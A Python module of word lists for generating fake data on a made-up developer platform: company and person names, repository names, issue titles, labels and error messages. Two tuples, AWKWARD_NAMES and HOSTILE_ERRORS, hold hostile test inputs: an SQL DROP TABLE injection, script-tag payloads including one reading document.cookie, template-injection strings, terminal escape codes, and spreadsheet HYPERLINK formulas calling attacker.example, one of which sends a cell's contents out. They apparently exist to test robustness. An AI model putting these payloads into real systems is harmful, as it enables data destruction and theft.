"""The words of the made-up platform: companies, people, repositories, issues."""

# ruff: noqa: SIM905 (words are easier to read in lines than in quotes)

COMPANY_FIRST = (
    "Acme Alder Amber Anchor Apex Arbor Arctic Argent Aspen Atlas Aurora Basalt Beacon Birch "
    "Blackwater Bluebird Boreal Bramble Bright Bronze Cairn Canopy Cascade Cedar Cinder Citrine "
    "Clearwater Cobalt Compass Copper Coral Crescent Delta Driftwood Dune Ember Evergreen "
    "Falcon Fathom Fern Finch Fjord Flint Foxglove Garnet Glacier Granite Halcyon Harbor "
    "Hawthorn Heron Hickory Horizon Indigo Ivory Jasper Juniper Kestrel Kindred Lantern Larch "
    "Lighthouse Lumen Magnolia Maple Marlin Meadow Meridian Mistral Monarch Nimbus Northwind "
    "Oakfield Obsidian Onyx Orchard Osprey Otter Parallel Pebble Pinewood Polaris Prairie "
    "Quarry Quartz Raven Redwood Ridge Riverbend Rosewood Rowan Saffron Sandpiper Sapphire "
    "Sequoia Silver Skylark Slate Solstice Sparrow Spruce Starling Sterling Stonebridge Summit "
    "Sycamore Tamarack Terra Thistle Tidewater Timber Topaz Tundra Umber Valley Verdant Vertex "
    "Walnut Waypoint Wildflower Willow Windmill Wren Yarrow Zephyr"
).split()
COMPANY_SECOND = (
    "Analytics Apparel Bank Biotech Capital Cloud Commerce Consulting Data Design Diagnostics "
    "Digital Dynamics Education Energy Engineering Finance Foods Games Genomics Health "
    "Hardware Industries Insurance Interactive Labs Learning Logistics Maritime Media Medical "
    "Mobility Music Networks Optics Payments Pharma Photonics Press Publishing Research "
    "Robotics Security Semiconductors Software Solar Sports Studios Systems Telecom Textiles "
    "Travel Ventures Water Works"
).split()
COMPANY_THIRD = (
    "Europe Group Platform Tools Open-Source Nordic Mobile Infrastructure Developer-Relations "
    "Core Frontend Backend Community Cooperative Foundation"
).split()

GIVEN = (
    "Aisha Alejandro Amara Anders Anika Anouk Arjun Astrid Beatriz Bilal Björn Camille Chen "
    "Chidi Dana Daniela Dmitri Eero Elif Elena Emeka Farah Felix Fiona Freya Gabriel Greta Hana "
    "Hugo Ibrahim Ines Ingrid Ivan Jana Joaquín João Jonas Kaito Katarzyna Keiko Kofi Lars "
    "Leila Liam Linnea Lucía Magnus Maya Mateo Mei Mikael Milan Nadia Ngozi Niamh Noor Olga "
    "Omar Oscar Paolo Petra Priya Rafael Rania Ravi Rosa Samir Sanne Sofia Søren Tariq Tatiana "
    "Thandiwe Tomás Valentina Viktor Wei Yara Yusuf Zoë Zuzana"
).split()
FAMILY = (
    "Abara Andersson Baptiste Becker Bianchi Bose Brandt Castillo Chowdhury Costa Dahl Demir "
    "Dubois Eriksen Fernández Fischer Fontaine Garcia Gruber Haddad Hansen Herrera Hoffmann "
    "Ivanova Jansen Jensen Kaya Keller Khan Kimura Kowalska Kumar Larsen Lindqvist López "
    "Makinen Marchetti Mbeki Mensah Moreau Müller Nakamura Nguyen Novák Nowak Okafor Oliveira "
    "Öztürk Patel Pereira Petrov Popescu Quist Rahman Ramos Reyes Ricci Rossi Sato Schmidt "
    "Silva Sørensen Suzuki Takahashi Tanaka Torres Tran Vasquez Virtanen Vos Wagner Weber Yıldız "
    "Zhang Zimmermann"
).split()

REPOSITORY_FIRST = (
    "access account alert anomaly api asset audit auth backup batch billing bluetooth booking "
    "browser build cache calendar camera catalog checkout cli cluster config container crawler "
    "dashboard data deploy design device docs edge email event export feature feed fleet form "
    "fraud gateway geo graph grid image ingest inventory invoice job kernel ledger lidar log mail "
    "map media mesh metrics mobile model motion network notification order package parser "
    "payment pipeline plugin policy portal print profile proxy query queue rate release report "
    "route scene schema search secret sensor session shipping signal sms spatial storage stream "
    "support sync telemetry tenant terraform test theme thermal token trace translation upload "
    "user vector video vision voice warehouse web webhook workflow"
).split()
REPOSITORY_SECOND = (
    "adapter agent analyzer api app archive benchmark bot bridge broker builder checker client "
    "collector compiler components connector console controller core daemon driver engine "
    "examples explorer exporter extension formatter framework gateway generator handler helper "
    "importer index inspector kit lib linter loader manager migrator mirror modules monitor "
    "operator orchestrator parser planner playground plugin predictor protocol provider proxy "
    "reader registry renderer runner runtime scheduler sdk server service simulator specs store "
    "studio suite system templates toolkit tools tracker ui utils validator viewer watcher worker "
    "writer"
).split()
REPOSITORY_PLAIN = (
    ".github awesome-list blog cookbook docs handbook homebrew-tap infra monorepo platform "
    "playbook roadmap website"
).split()
LANGUAGES = (
    "TypeScript TypeScript TypeScript JavaScript JavaScript Python Python Python Go Go Rust "
    "Java Kotlin Swift Ruby PHP C C++ C# Elixir Scala Dart Shell HCL Jupyter-Notebook"
).split()

ISSUE_TITLES = (
    "{thing} crashes when the list is empty",
    "Add dark mode to {thing}",
    "{thing}: wrong time zone after midnight",
    "Document the configuration of {thing}",
    "Memory of {thing} grows without bound",
    "Flaky test in {thing} on Windows",
    "Support IPv6 in {thing}",
    "{thing} ignores the timeout",
    "Upgrade {thing} to the new API",
    "Slow start of {thing} with large projects",
    "Feature request: export from {thing} as CSV",
    "{thing} returns 500 for names with an apostrophe",
    "Deprecate the old options of {thing}",
    "Typo in the error message of {thing}",
    "Race between two workers in {thing}",
)
LABELS = (
    ("bug", "d73a4a"),
    ("documentation", "0075ca"),
    ("enhancement", "a2eeef"),
    ("good first issue", "7057ff"),
    ("help wanted", "008672"),
    ("performance", "fbca04"),
    ("question", "d876e3"),
    ("regression", "b60205"),
)  # each as (name, colour)

# Names of workspaces that people do type, and that break careless pages and exports.
AWKWARD_NAMES = (
    'O\'Brien & Søn "Labs"',
    "株式会社ソラ Analytics",
    "'; DROP TABLE workspaces; --",
    '<script>alert("workspace")</script>',
    '=HYPERLINK("https://attacker.example","Northwind")',
    "مختبر البيانات المفتوحة",
    "🚀 Rocket Ops 🚀",
    "100%_wild%cards_",
    "{{ 7 * 7 }} {% debug %} ${HOME}",
    "A workspace whose name is as long as the platform allows, because somebody typed the whole mission",
)

NETWORK_ERRORS = (
    "error trying to connect: tcp connect error: Connection timed out (os error 110)",
    "error trying to connect: dns error: failed to lookup address information: "
    "Temporary failure in name resolution",
    "connection closed before message completed",
    "error trying to connect: tls handshake eof",
)
PARSE_ERRORS = (
    "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
    "Unexpected end of JSON input",
    "Cannot read properties of null (reading 'map')",
    "Cannot read properties of null (reading 'login')",
    "Invalid time value",
)
# Texts that came from outside and reach a page, a CSV file, a terminal.
HOSTILE_ERRORS = (
    "Unexpected token '<', \"<script>alert(document.cookie)</script>\"... is not valid JSON",
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Sync details")',
    'Unexpected token \'{\', "{"message":"'
    + "upstream connect error or disconnect; " * 160
    + '"}"',
    "Unexpected token '\x1b', \"\x1b[31mBad gateway\x1b[0m\r\nRetry later\"... is not valid JSON",
)
